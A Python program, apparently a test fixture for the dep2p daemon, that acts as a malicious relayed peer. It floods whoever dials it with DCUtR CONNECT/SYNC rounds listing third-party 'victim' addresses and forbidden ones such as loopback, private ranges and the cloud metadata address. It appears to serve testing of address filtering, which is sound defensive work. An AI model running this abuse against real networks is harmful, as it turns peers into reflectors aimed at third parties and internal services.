"""A peer behind a relay that misuses DCUtR: run as a program, with the relay's address.

Whoever dials it through the relay gets round after round of CONNECT and SYNC with addresses of
others. It prints its peer id, and after its last round the line "done".
"""

from __future__ import annotations

import asyncio
import logging
import sys
from contextlib import AsyncExitStack

import structlog

from dep2p_daemon.circuit.relay_client import RelayClient
from dep2p_daemon.circuit.transport import CircuitTransport
from dep2p_daemon.errors import Dep2pError
from dep2p_daemon.events import EventBus
from dep2p_daemon.identity.keys import PrivateKey
from dep2p_daemon.multiaddr import Multiaddr
from dep2p_daemon.muxed import Connection, Direction, read_message, write_message
from dep2p_daemon.nat.dcutr_message import PROTOCOL, DcutrMessage, MessageType, encode
from dep2p_daemon.protocols.identify import Identify
from dep2p_daemon.quic.transport import QuicTransport
from dep2p_daemon.swarm.events import ConnectionOpened
from dep2p_daemon.swarm.peerstore import Peerstore
from dep2p_daemon.swarm.swarm import Swarm

ROUNDS = 20
VICTIMS = [
    *(Multiaddr.for_udp(f"45.9.{n}.1", 7000 + n) for n in range(40)),
    *(Multiaddr.for_tcp(f"45.9.{n}.1", 7000 + n) for n in range(40)),
    *(Multiaddr.for_udp("45.8.1.1", 7000 + n) for n in range(200)),
]
"""Third parties, and one host's ports."""
FORBIDDEN = [
    Multiaddr.for_udp("127.0.0.1", 4001),
    Multiaddr.for_udp("10.1.2.3", 4001),
    Multiaddr.for_tcp("10.1.2.3", 80),
    Multiaddr.for_udp("192.168.1.1", 53),
    Multiaddr.for_udp("100.64.0.1", 4001),
    Multiaddr.for_udp("169.254.169.254", 8080),
    Multiaddr.for_udp("224.0.0.251", 5353),
    Multiaddr.for_udp("255.255.255.255", 4001),
    Multiaddr.for_udp("45.9.200.1", 53),
    Multiaddr.for_tcp("45.9.200.1", 25),
]


def say(line: str) -> None:
    sys.stdout.write(f"{line}\n")
    sys.stdout.flush()


async def attack(swarm: Swarm, connection: Connection) -> None:
    for number in range(ROUNDS):
        addresses = [*FORBIDDEN, *VICTIMS[number * 14 :], *VICTIMS[: number * 14]]
        try:
            stream = await swarm.open_stream(
                connection.remote_peer, [PROTOCOL], connection=connection
            )
            connect = DcutrMessage(MessageType.CONNECT, tuple(addresses))
            await write_message(stream, encode(connect))
            await read_message(stream, 4096)
            await write_message(stream, encode(DcutrMessage(MessageType.SYNC)))
            await stream.aclose()
        except Dep2pError as error:
            say(f"refused {error.reason}")
        await asyncio.sleep(0.3)
    say("done")


async def main(relay: str) -> None:
    key, events = PrivateKey.generate(), EventBus()
    async with AsyncExitStack() as stack:
        seen = stack.enter_context(events.subscribe())
        quic = await stack.enter_async_context(QuicTransport(key))
        swarm = await stack.enter_async_context(
            Swarm(key=key, peerstore=Peerstore(None), events=events)
        )
        circuits = await stack.enter_async_context(CircuitTransport(swarm, key))
        for transport in (quic, circuits):
            swarm.add_transport(transport)
        Identify(swarm).register()
        client = await stack.enter_async_context(RelayClient(swarm, events, transport=circuits))
        await client.connect(Multiaddr.parse(relay))
        say(str(key.peer_id))
        while True:
            event = await seen.next()
            if (
                isinstance(event, ConnectionOpened)
                and event.connection.relayed
                and event.connection.direction is Direction.INBOUND
            ):
                await attack(swarm, event.connection)


if __name__ == "__main__":
    structlog.configure(wrapper_class=structlog.make_filtering_bound_logger(logging.CRITICAL))
    asyncio.run(main(sys.argv[1]))
